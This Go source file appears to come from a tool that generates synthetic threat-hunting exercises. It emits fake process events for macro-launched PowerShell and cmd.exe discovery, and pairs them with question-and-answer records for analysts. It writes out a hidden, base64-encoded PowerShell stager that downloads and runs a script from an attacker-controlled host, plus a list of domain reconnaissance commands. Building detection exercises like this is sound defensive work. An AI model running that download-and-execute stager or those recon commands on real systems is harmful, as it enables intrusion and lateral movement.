package techniques

import (
	"encoding/base64"
	"fmt"
	"time"

	"github.com/polisai/huntgen/pkg/domain"
	"github.com/polisai/huntgen/pkg/events"
)

var userExecution = &Technique{
	Stage:       domain.StageExecution,
	Name:        "user_execution",
	Aliases:     []string{"t1204"},
	Description: "Victims launch a macro that spawns an encoded PowerShell stager.",
	Default:     true,
	run:         runUserExecution,
}

func runUserExecution(a *attack) (domain.Cohort, []domain.QARecord, error) {
	if err := requireVictims(a); err != nil {
		return nil, nil, err
	}
	a.after(5*time.Minute, 2*time.Hour)
	stager := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/s.ps1')", a.in.Attacker["ExternalServerName"])
	encoded := base64.StdEncoding.EncodeToString([]byte(stager))
	word := events.Process{FileName: "WINWORD.EXE", CommandLine: `"WINWORD.EXE" /n`}

	var offset time.Duration
	for _, v := range a.victims() {
		acct := accountOf(v)
		dev := a.device(acct)
		offset += time.Duration(a.f.Number(30, 600)) * time.Second
		a.emit(events.DeviceProcessEvents, events.ProcessEvent(a.f, a.at(offset), acct, dev, "powershell.exe",
			`C:\Windows\System32\WindowsPowerShell\v1.0`, "powershell.exe -nop -w hidden -enc "+encoded, word))
	}

	qa := []domain.QARecord{
		domain.QA("Which parent process spawned the encoded PowerShell commands?", word.FileName),
		domain.QA("What URL does the decoded PowerShell stager download from?", fmt.Sprintf("https://%s/s.ps1", a.in.Attacker["ExternalServerName"])),
		domain.QA("How many devices ran the encoded PowerShell command?", distinct(a.produced(events.DeviceProcessEvents), "DeviceName", nil)),
	}
	return a.victims(), qa, nil
}

var discoveryCommands = []string{"whoami /all", "net user /domain", "ipconfig /all", "nltest /dclist:", "net group \"Domain Admins\" /domain", "systeminfo", "tasklist /v"}

var commandScripting = &Technique{
	Stage:       domain.StageExecution,
	Name:        "command_scripting_interpreter",
	Aliases:     []string{"command_and_scripting_interpreter", "t1059"},
	Description: "Discovery commands run through cmd.exe on each victim device.",
	run:         runCommandScripting,
}

func runCommandScripting(a *attack) (domain.Cohort, []domain.QARecord, error) {
	if err := requireVictims(a); err != nil {
		return nil, nil, err
	}
	a.after(5*time.Minute, 2*time.Hour)
	parent := events.Process{FileName: "powershell.exe", CommandLine: "powershell.exe -nop -w hidden"}

	var offset time.Duration
	used := map[string]bool{}
	for _, v := range a.victims() {
		acct := accountOf(v)
		dev := a.device(acct)
		for range a.f.Number(3, 6) {
			cmd := discoveryCommands[a.f.Number(0, len(discoveryCommands)-1)]
			used[cmd] = true
			offset += time.Duration(a.f.Number(2, 40)) * time.Second
			a.emit(events.DeviceProcessEvents, events.ProcessEvent(a.f, a.at(offset), acct, dev, "cmd.exe", `C:\Windows\System32`, "cmd.exe /c "+cmd, parent))
		}
	}

	procs := a.produced(events.DeviceProcessEvents)
	qa := []domain.QARecord{
		domain.QA("Which interpreter was used to run discovery commands from a hidden PowerShell session?", "cmd.exe"),
		domain.QA("How many discovery commands were run by cmd.exe under the hidden PowerShell session?", len(procs)),
		domain.QA("How many distinct discovery commands were run?", len(used)),
		domain.QA("How many devices ran discovery commands?", distinct(procs, "DeviceName", nil)),
	}
	return a.victims(), qa, nil
}
